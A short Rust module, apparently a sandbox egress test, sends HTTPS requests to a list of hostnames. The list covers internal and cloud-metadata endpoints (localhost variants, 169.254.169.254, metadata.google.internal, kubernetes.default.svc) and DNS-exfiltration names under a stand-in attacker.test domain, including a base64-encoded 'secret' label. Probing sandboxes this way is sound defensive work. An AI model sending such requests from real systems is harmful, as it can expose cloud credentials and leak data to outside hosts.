//! Asks for names that lead inside, or that carry something out by being asked for.

use wharfage_guests::{get, http, tally};

wharfage_guests::attack!(_input => {
    let names = [
        "localhost", "LOCALHOST", "localhost.", "localhost.localdomain", "metadata", "metadata.google.internal", "metadata.azure.com",
        "instance-data", "kubernetes.default.svc", "host.docker.internal", "127.0.0.1.nip.io", "169.254.169.254.nip.io", "spoofed.burpcollaborator.test",
        "api", "router", "printer.local", "wpad", "vault.service.consul", "c2VjcmV0IGRhdGEgZ29lcyBvdXQ.attacker.test", "api.stand-in.test.attacker.test",
        "a.very.long.chain.of.labels.that.carries.a.secret.out.by.dns.attacker.test", "_dmarc.attacker.test", "*.stand-in.test", "-.test", "xn--.test",
    ];
    tally(names.map(|name| http::send(&get(&format!("https://{name}/")))))
});
